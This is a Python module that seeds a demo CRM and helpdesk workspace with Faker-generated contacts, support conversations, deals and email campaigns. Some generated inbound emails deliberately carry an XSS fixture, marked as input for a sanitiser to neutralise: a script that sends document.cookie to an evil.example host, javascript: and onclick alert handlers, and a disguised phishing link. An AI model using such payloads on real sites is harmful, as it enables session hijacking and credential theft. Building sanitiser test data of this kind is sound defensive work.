"""Deterministic demo data: realistic people, companies, conversations, deals, campaigns.

The same seed and sizes give the same workspace (names, emails, messages,
amounts); timestamps are laid out backwards from the moment of seeding so the
demo always looks current. 100,000 contacts take a few seconds.
"""

from __future__ import annotations

import random
import re
import unicodedata
from datetime import datetime, timedelta
from typing import Any

from faker import Faker

from mailtrixy_sandbox import clock
from mailtrixy_sandbox.config import SeedSizes
from mailtrixy_sandbox.conversations import text_to_html
from mailtrixy_sandbox.db import Database, dumps

TAGS = (
    ("lead", "#3B82F6"),
    ("customer", "#10B981"),
    ("enterprise", "#8B5CF6"),
    ("vip", "#F59E0B"),
    ("churned", "#EF4444"),
    ("trial", "#06B6D4"),
    ("partner", "#EC4899"),
    ("newsletter", "#84CC16"),
    ("webinar", "#F97316"),
    ("priority", "#DC2626"),
    ("smb", "#6366F1"),
    ("agency", "#14B8A6"),
)
GROUPS = (
    ("Newsletter Subscribers", "Opted-in newsletter list", 0.35),
    ("Trial Users", "Users on free trial", 0.08),
    ("VIP Clients", "Top accounts by revenue", 0.03),
    ("Webinar Attendees", "Registered for the Q2 product webinar", 0.06),
    ("Enterprise Accounts", "Companies on the enterprise plan", 0.05),
    ("EMEA", "Contacts in Europe, the Middle East and Africa", 0.2),
    ("Beta Testers", "Early access programme", 0.02),
    ("Churn Risk", "Low activity in the last 60 days", 0.04),
)
TEAM = (
    ("Alex Morgan", "owner"),
    ("Priya Raman", "support"),
    ("Diego Alvarez", "sales"),
    ("Mei Chen", "support"),
    ("Tom Becker", "sales"),
    ("Fatima Okafor", "marketing"),
    ("Lukas Novak", "support"),
    ("Sara Lindqvist", "sales"),
)
LOCALES = (("en_US", 0.6), ("en_GB", 0.15), ("de_DE", 0.1), ("fr_FR", 0.08), ("es_ES", 0.07))
DEPARTMENTS = (
    "Engineering",
    "Marketing",
    "Sales",
    "Finance",
    "Operations",
    "Support",
    "HR",
    "Product",
    "Legal",
    "IT",
)
PLANS = ("free", "starter", "growth", "business", "enterprise")
LABELS = (
    "billing",
    "priority",
    "bug",
    "feature-request",
    "onboarding",
    "refund",
    "integration",
    "account",
    "shipping",
    "feedback",
)
STAGES = ("lead", "qualified", "proposal", "negotiation", "won", "lost")
POOL_SIZE = 800
SUBJECT_SUFFIXES = ("what’s new", "don’t miss this", "for you, {{contact.name}}")
CURRENCIES = (("USD", 0.6), ("EUR", 0.25), ("GBP", 0.15))

SUBJECTS = (
    "Billing question about invoice #{n}",
    "Can't log in since the update",
    "Question about the {plan} plan",
    "Refund request for order {n}",
    "Integration with Zapier not firing",
    "Export to CSV is missing columns",
    "How do I add teammates?",
    "Feature request: dark mode for reports",
    "Shipping delay on order {n}",
    "Our webhook stopped receiving events",
    "Upgrade to annual billing",
    "Data import failed halfway",
    "Password reset email never arrives",
    "GDPR data request",
    "Thanks for the quick fix!",
    "Pricing for {seats} seats",
    "Calendar sync shows wrong time zone",
    "API rate limit questions",
    "Cancel my subscription",
    "Onboarding call next week?",
)
INBOUND_OPENERS = (
    "Hi there,",
    "Hello support team,",
    "Hi {agent},",
    "Good morning,",
    "Hey,",
    "Dear MailTrixy team,",
)
INBOUND_BODIES = (
    "I was charged twice for last month and would like the duplicate refunded.",
    "Since yesterday's update I can no longer sign in. The page just reloads.",
    "We're evaluating the {plan} plan for our team of {seats}. Does it include the API?",
    "The export I downloaded is missing the phone and company columns.",
    "Our Zapier zap hasn't triggered since Tuesday, although contacts are being created.",
    "Could you tell me when order {n} will ship? The tracking page has not changed in days.",
    "Is there a way to import contacts with custom fields from a spreadsheet?",
    "We'd love a dark mode for the reports page; our ops team works nights.",
    "Please send me a copy of all personal data you hold about me.",
    "The calendar invites show up an hour late for everyone in Berlin.",
)
OUTBOUND_BODIES = (
    "Thanks for reaching out! I've looked into this and {fix}.",
    "Sorry for the trouble. {fix_cap}, and I'll keep this conversation open until you confirm.",
    "Good question! {fix_cap}. Let me know if anything else comes up.",
)
FIXES = (
    "the duplicate charge has been refunded; it shows on your statement in 3-5 days",
    "we rolled out a fix for the sign-in loop this morning",
    "the API is included in every paid plan, with 300 requests a minute",
    "the export now includes every column, including custom fields",
    "your webhook had been paused after repeated failures; it is active again",
    "I've updated the time zone on your workspace to Europe/Berlin",
)


def _slug(text: str) -> str:
    ascii_text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
    return re.sub(r"[^a-z0-9]+", "", ascii_text.lower()) or "contact"


def _pick_weighted(rng: random.Random, options: tuple[tuple[str, float], ...]) -> str:
    return rng.choices([o[0] for o in options], weights=[o[1] for o in options])[0]


def _ts(moment: datetime) -> str:
    return clock.to_iso(moment)


class Seeder:
    def __init__(self, db: Database, seed: int, sizes: SeedSizes) -> None:
        self.db = db
        self.rng = random.Random(seed)
        self.sizes = sizes
        self.now = clock.now()
        self.fakers = {}
        for index, (locale, _weight) in enumerate(LOCALES):
            fake = Faker(locale)
            fake.seed_instance(seed + index)
            self.fakers[locale] = fake
        self.fake = self.fakers["en_US"]
        # Faker's weighted name lists cost ~50 µs a draw; drawing pools once and
        # combining them with our own RNG keeps 100,000 contacts to a few seconds.
        self.pools = {
            locale: {
                "first": [fake.first_name() for _ in range(POOL_SIZE)],
                "last": [fake.last_name() for _ in range(POOL_SIZE)],
                "phone": [fake.phone_number() for _ in range(POOL_SIZE)],
                "city": [fake.city() for _ in range(POOL_SIZE // 4)],
            }
            for locale, fake in self.fakers.items()
        }

    def ago(self, max_days: float, min_days: float = 0.0) -> datetime:
        return self.now - timedelta(days=self.rng.uniform(min_days, max_days))

    def run(self) -> None:
        with self.db.transaction():
            members = self.team()
            self.email_accounts()
            tag_ids = self.tags()
            group_ids = self.groups()
            contacts = self.contacts(tag_ids, group_ids)
            self.conversations(contacts, members)
            self.deals(contacts, members)
            self.campaigns(group_ids)
            self.webhooks()
            self.db.set_meta("workspace_name", "Northwind Demo")

    # ------------------------------------------------------------------ parts
    def team(self) -> list[tuple[int, str]]:
        rows = []
        for index, (name, role) in enumerate(TEAM[: max(1, self.sizes.team_members)], start=1):
            email = f"{name.split()[0].lower()}@northwind-demo.com"
            rows.append((index, name, email, role, _ts(self.ago(700, 400))))
        self.db.conn.executemany(
            "INSERT INTO team_members(id, name, email, role, created_at) VALUES (?,?,?,?,?)", rows
        )
        return [(r[0], r[1]) for r in rows]

    def email_accounts(self) -> None:
        self.db.conn.executemany(
            "INSERT INTO email_accounts(id, email, name, verified) VALUES (?,?,?,?)",
            [
                (1, "newsletter@northwind-demo.com", "Northwind Newsletter", 1),
                (2, "support@northwind-demo.com", "Northwind Support", 1),
                (3, "sales@northwind-new.com", "Sales (pending verification)", 0),
            ],
        )

    def tags(self) -> dict[str, int]:
        now = _ts(self.ago(500, 300))
        self.db.conn.executemany(
            "INSERT INTO tags(id, name, color, created_at, updated_at) VALUES (?,?,?,?,?)",
            [(i, name, color, now, now) for i, (name, color) in enumerate(TAGS, start=1)],
        )
        return {name: i for i, (name, _c) in enumerate(TAGS, start=1)}

    def groups(self) -> list[tuple[int, float]]:
        rows = []
        for i, (name, description, _share) in enumerate(GROUPS, start=1):
            created = _ts(self.ago(500, 100))
            rows.append((i, name, description, created, created))
        self.db.conn.executemany(
            "INSERT INTO contact_groups(id, name, description, created_at, updated_at) "
            "VALUES (?,?,?,?,?)",
            rows,
        )
        return [(i, share) for i, (_n, _d, share) in enumerate(GROUPS, start=1)]

    def _companies(self) -> list[tuple[str, str]]:
        count = max(5, min(self.sizes.contacts // 6, 3000))
        seen: set[str] = set()
        companies: list[tuple[str, str]] = []
        while len(companies) < count:
            name = self.fake.company()
            if name in seen:
                name = f"{name} {self.fake.city_suffix()}"
                if name in seen:
                    continue
            seen.add(name)
            companies.append((name, _slug(name.split(",")[0])[:24] + ".com"))
        return companies

    def contacts(
        self, tag_ids: dict[str, int], groups: list[tuple[int, float]]
    ) -> list[tuple[int, str]]:
        rng = self.rng
        companies = self._companies()
        used: set[str] = set()
        contact_rows: list[tuple[Any, ...]] = []
        tag_rows: list[tuple[int, int]] = []
        member_rows: list[tuple[int, int, str]] = []
        tag_list = list(tag_ids.values())
        out: list[tuple[int, str]] = []
        locales = tuple(LOCALES)
        for cid in range(1, self.sizes.contacts + 1):
            pool = self.pools[_pick_weighted(rng, locales)]
            first, last = rng.choice(pool["first"]), rng.choice(pool["last"])
            name = f"{first} {last}"
            if rng.random() < 0.12:
                company, domain = (
                    None,
                    rng.choice(
                        ("gmail.com", "outlook.com", "proton.me", "yahoo.com", "icloud.com")
                    ),
                )
            else:
                company, domain = rng.choice(companies)
            local = f"{_slug(first)}.{_slug(last)}"
            email = f"{local}@{domain}"
            n = 1
            while email in used:
                n += 1
                email = f"{local}{n}@{domain}"
            used.add(email)
            phone = rng.choice(pool["phone"]) if rng.random() < 0.75 else None
            custom: dict[str, Any] = {}
            if rng.random() < 0.7:
                custom["department"] = rng.choice(DEPARTMENTS)
            if rng.random() < 0.5:
                custom["plan"] = rng.choice(PLANS)
            if rng.random() < 0.3:
                custom["deal_value"] = rng.randrange(1_000, 150_000, 500)
            if rng.random() < 0.4:
                custom["city"] = rng.choice(pool["city"])
            if rng.random() < 0.2:
                custom["newsletter_opt_in"] = rng.random() < 0.7
            created = self.ago(720, 1)
            updated = min(self.now, created + timedelta(days=rng.uniform(0, 120)))
            contacted = (
                _ts(min(self.now, created + timedelta(days=rng.uniform(0, 200))))
                if rng.random() < 0.6
                else None
            )
            contact_rows.append(
                (
                    cid,
                    name,
                    email,
                    company,
                    phone,
                    dumps(custom),
                    contacted,
                    _ts(created),
                    _ts(updated),
                )
            )
            for tid in rng.sample(tag_list, k=rng.choices((0, 1, 2, 3), (3, 4, 2, 1))[0]):
                tag_rows.append((cid, tid))
            for gid, share in groups:
                if rng.random() < share:
                    member_rows.append((gid, cid, _ts(updated)))
            out.append((cid, name))
        self.db.conn.executemany(
            "INSERT INTO contacts(id, name, email, company, phone, custom_fields, "
            "last_contacted_at, created_at, updated_at) VALUES (?,?,?,?,?,?,?,?,?)",
            contact_rows,
        )
        self.db.conn.executemany(
            "INSERT INTO contact_tags(contact_id, tag_id) VALUES (?,?)", tag_rows
        )
        self.db.conn.executemany(
            "INSERT INTO group_members(group_id, contact_id, added_at) VALUES (?,?,?)", member_rows
        )
        return out

    def _inbound_html(self, agent: str) -> tuple[str | None, str]:
        rng = self.rng
        opener = rng.choice(INBOUND_OPENERS).format(agent=agent.split()[0])
        body = rng.choice(INBOUND_BODIES).format(
            plan=rng.choice(PLANS), seats=rng.randint(3, 80), n=rng.randint(10_000, 99_999)
        )
        sign = self.rng.choice(self.pools["en_US"]["first"])
        text = f"{opener}\n\n{body}\n\nThanks,\n{sign}"
        roll = rng.random()
        if roll < 0.25:  # plain-text mail: no HTML part at all
            return None, text
        html = text_to_html(text)
        if roll < 0.4:  # a newsletter-style mail with a tracking pixel and a tracked link
            html += (
                '<p><a href="https://click.mailtrack-demo.net/r?u=https%3A%2F%2Fexample.com'
                '%2Forder">View your order</a></p>'
                '<img src="https://pixel.mailtrack-demo.net/open.gif?id='
                f'{rng.randint(1, 10**9)}" width="1" height="1" alt="">'
            )
        elif roll < 0.5:  # something a sanitiser must neutralise
            html += (
                '<script>fetch("https://evil.example/steal?c="+document.cookie)</script>'
                '<p onclick="alert(1)">Click <a href="javascript:alert(1)">here</a> or '
                '<a href="https://phish.example/login">https://example.com/account</a></p>'
            )
        elif roll < 0.6:
            html += (
                '<p><img src="https://images.example-cdn.com/screenshots/error-'
                f'{rng.randint(100, 999)}.png" alt="Screenshot of the error"></p>'
            )
        return html, text

    def conversations(
        self, contacts: list[tuple[int, str]], members: list[tuple[int, str]]
    ) -> None:
        rng = self.rng
        conv_rows: list[tuple[Any, ...]] = []
        msg_rows: list[tuple[Any, ...]] = []
        message_id = 0
        for conv_id in range(1, self.sizes.conversations + 1):
            contact_id, _name = rng.choice(contacts)
            status = rng.choices(("open", "snoozed", "closed"), (5, 1, 4))[0]
            assignee = rng.choice(members) if rng.random() < 0.75 else None
            labels = rng.sample(LABELS, k=rng.choices((0, 1, 2), (3, 5, 2))[0])
            subject = rng.choice(SUBJECTS).format(
                n=rng.randint(1000, 99999), plan=rng.choice(PLANS), seats=rng.randint(5, 200)
            )
            created = self.ago(120, 0.02)
            moment = created
            count = rng.choices((1, 2, 3, 4, 5, 6), (3, 3, 2, 1, 1, 1))[0]
            for index in range(count):
                message_id += 1
                inbound = index % 2 == 0
                if inbound:
                    html, text = self._inbound_html(assignee[1] if assignee else "there")
                    sender = None
                else:
                    fix = rng.choice(FIXES)
                    text = rng.choice(OUTBOUND_BODIES).format(
                        fix=fix, fix_cap=fix[0].upper() + fix[1:]
                    )
                    text += f"\n\nBest,\n{(assignee or rng.choice(members))[1]}"
                    html = text_to_html(text)
                    sender = (assignee or rng.choice(members))[0]
                msg_rows.append(
                    (
                        message_id,
                        conv_id,
                        "inbound" if inbound else "outbound",
                        html,
                        text,
                        sender,
                        "[]",
                        "[]",
                        _ts(moment),
                    )
                )
                if index < count - 1:
                    moment = min(self.now, moment + timedelta(hours=rng.uniform(0.2, 30)))
            snoozed_until = (
                _ts(self.now + timedelta(hours=rng.uniform(2, 96))) if status == "snoozed" else None
            )
            conv_rows.append(
                (
                    conv_id,
                    subject,
                    status,
                    contact_id,
                    assignee[0] if assignee else None,
                    dumps(labels),
                    count,
                    _ts(moment),
                    snoozed_until,
                    _ts(created),
                    _ts(moment),
                )
            )
        self.db.conn.executemany(
            "INSERT INTO conversations(id, subject, status, contact_id, assignee_id, labels, "
            "messages_count, last_message_at, snoozed_until, created_at, updated_at) "
            "VALUES (?,?,?,?,?,?,?,?,?,?,?)",
            conv_rows,
        )
        self.db.conn.executemany(
            "INSERT INTO messages(id, conversation_id, direction, body_html, body_text, "
            "sender_member_id, cc, bcc, created_at) VALUES (?,?,?,?,?,?,?,?,?)",
            msg_rows,
        )

    def deals(self, contacts: list[tuple[int, str]], members: list[tuple[int, str]]) -> None:
        rng = self.rng
        rows = []
        products = (
            "Enterprise Plan",
            "Growth Plan renewal",
            "Onboarding package",
            "Annual licence",
            "Support upgrade",
            "Pilot",
            "Expansion seats",
            "Custom integration",
        )
        company_of = {
            r["id"]: r["company"] for r in self.db.all("SELECT id, company FROM contacts")
        }
        for deal_id in range(1, self.sizes.deals + 1):
            contact_id, contact_name = rng.choice(contacts)
            stage = (
                STAGES[deal_id % len(STAGES)]
                if deal_id <= 12
                else rng.choices(STAGES, (5, 4, 3, 2, 2, 2))[0]
            )
            owner = company_of.get(contact_id) or contact_name
            title = f"{owner} – {rng.choice(products)}"
            value = rng.choice(
                (rng.randrange(500, 20_000, 50), rng.randrange(20_000, 250_000, 500))
            )
            cents = rng.choice((0, 0, 0, 50, 99))
            created = self.ago(200, 1)
            updated = min(self.now, created + timedelta(days=rng.uniform(0, 60)))
            close = (
                (self.now + timedelta(days=rng.randint(-30, 120))).date().isoformat()
                if rng.random() < 0.8
                else None
            )
            notes = rng.choice(
                (
                    None,
                    "Initial discussion about their needs.",
                    "Decision maker is the CFO; send ROI sheet.",
                    "Waiting on legal review of the DPA.",
                )
            )
            rows.append(
                (
                    deal_id,
                    title,
                    f"{value}.{cents:02d}" if cents else str(value),
                    _pick_weighted(rng, CURRENCIES),
                    stage,
                    contact_id,
                    rng.choice(members)[0] if rng.random() < 0.85 else None,
                    close,
                    notes,
                    _ts(created),
                    _ts(updated),
                )
            )
        self.db.conn.executemany(
            "INSERT INTO deals(id, title, value, currency, stage, contact_id, assignee_id, "
            "expected_close_date, notes, created_at, updated_at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
            rows,
        )

    def campaigns(self, groups: list[tuple[int, float]]) -> None:
        rng = self.rng
        statuses = ("draft", "scheduled", "sending", "sent", "paused")
        topics = (
            "Newsletter",
            "Product Update",
            "Webinar Invite",
            "Black Friday",
            "Customer Survey",
            "Feature Spotlight",
            "Onboarding Tips",
            "Renewal Reminder",
        )
        counts = {
            gid: int(
                self.db.scalar("SELECT COUNT(*) FROM group_members WHERE group_id = ?", (gid,)) or 0
            )
            for gid, _s in groups
        }
        rows = []
        for cid in range(1, self.sizes.campaigns + 1):
            status = (
                statuses[(cid - 1) % len(statuses)]
                if cid <= 5
                else rng.choices(statuses, (2, 1, 0.5, 6, 0.5))[0]
            )
            month = self.now - timedelta(days=30 * (self.sizes.campaigns - cid) // 2)
            name = f"{month:%B} {rng.choice(topics)}"
            chosen = rng.sample([g for g, _s in groups], k=rng.randint(1, 2))
            recipients = (
                int(
                    self.db.scalar(
                        "SELECT COUNT(DISTINCT contact_id) FROM group_members WHERE group_id IN "
                        f"({','.join('?' * len(chosen))})",
                        chosen,
                    )
                    or 0
                )
                if counts
                else 0
            )
            created = self.ago(300, 2)
            schedule_at = sent_at = completed_at = None
            delivered = opened = clicked = bounced = unsubscribed = 0
            if status == "scheduled":
                schedule_at = _ts(self.now + timedelta(days=rng.uniform(1, 20)))
            if status in ("sending", "sent", "paused"):
                sent_at = _ts(created + timedelta(days=1))
                share = 1.0 if status == "sent" else rng.uniform(0.2, 0.8)
                processed = round(recipients * share)
                bounced = round(processed * rng.uniform(0.005, 0.03))
                delivered = processed - bounced
                opened = round(delivered * rng.uniform(0.18, 0.45))
                clicked = round(opened * rng.uniform(0.08, 0.3))
                unsubscribed = round(delivered * rng.uniform(0.001, 0.006))
                if status == "sent":
                    completed_at = _ts(created + timedelta(days=1, hours=2))
            body = (
                f"<h1>{name}</h1><p>Hello {{{{contact.name}}}},</p>"
                "<p>Here is what's new at Northwind this month.</p>"
                '<p><img src="https://images.example-cdn.com/campaigns/hero.png" '
                'alt="Hero image"></p><p><a href="https://northwind-demo.com/news">Read more'
                "</a></p><p>You are receiving this as {{contact.email}}.</p>"
            )
            rows.append(
                (
                    cid,
                    name,
                    f"{name}: {rng.choice(SUBJECT_SUFFIXES)}",
                    status,
                    "newsletter@northwind-demo.com",
                    "Northwind",
                    body,
                    dumps(chosen),
                    1,
                    recipients,
                    delivered,
                    opened,
                    clicked,
                    bounced,
                    unsubscribed,
                    schedule_at,
                    sent_at,
                    completed_at,
                    _ts(created),
                    _ts(created),
                )
            )
        self.db.conn.executemany(
            "INSERT INTO campaigns(id, name, subject, status, from_email, from_name, body_html, "
            "recipient_groups, email_account_id, recipients_count, delivered, opened, clicked, "
            "bounced, unsubscribed, schedule_at, sent_at, completed_at, created_at, updated_at) "
            "VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
            rows,
        )

    def webhooks(self) -> None:
        # External URLs are listed but never contacted (see webhook_delivery).
        self.db.conn.executemany(
            "INSERT INTO webhooks(url, events, secret, is_active, created_at) VALUES (?,?,?,?,?)",
            [
                (
                    "https://hooks.zapier.com/hooks/catch/123456/abcdef/",
                    dumps(["contact.created", "contact.updated", "deal.stage_changed"]),
                    "whsec_demo_zapier_not_shown",
                    1,
                    _ts(self.ago(90, 30)),
                ),
                (
                    "https://hook.eu1.make.com/demo-scenario",
                    dumps(["deal.won", "deal.lost"]),
                    "whsec_demo_make_not_shown",
                    0,
                    _ts(self.ago(60, 10)),
                ),
            ],
        )


def seed_demo(db: Database, seed: int, sizes: SeedSizes) -> None:
    Seeder(db, seed, sizes).run()


def seed_empty(db: Database) -> None:
    """A workspace with only what any workspace has: a team member and an email account."""
    now = clock.now_iso()
    with db.transaction():
        db.execute(
            "INSERT INTO team_members(id, name, email, role, created_at) "
            "VALUES (1, 'Sandbox Owner', 'owner@sandbox.test', 'owner', ?)",
            (now,),
        )
        db.execute(
            "INSERT INTO team_members(id, name, email, role, created_at) "
            "VALUES (2, 'Support Agent', 'agent@sandbox.test', 'support', ?)",
            (now,),
        )
        db.execute(
            "INSERT INTO email_accounts(id, email, name, verified) "
            "VALUES (1, 'newsletter@yourcompany.com', 'Newsletter', 1)"
        )
        db.execute(
            "INSERT INTO email_accounts(id, email, name, verified) "
            "VALUES (2, 'hello@unverified.example', 'Not verified', 0)"
        )
        db.set_meta("workspace_name", "Sandbox")
